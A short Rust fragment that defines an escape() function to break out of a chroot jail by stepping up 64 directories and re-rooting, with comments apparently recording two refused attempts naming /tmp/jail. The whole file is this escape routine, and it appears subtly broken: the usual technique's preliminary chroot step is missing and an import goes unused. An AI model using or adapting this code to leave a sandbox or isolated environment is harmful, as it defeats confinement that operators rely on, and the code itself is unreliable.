// refused with: the root directory of the process
// refused with: the kernel shows  /tmp/jail

use std::fs;

use anyhow::Result;
use nix::unistd::{chdir, chroot};

fn escape() -> Result<()> {
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")?;
    Ok(())
}
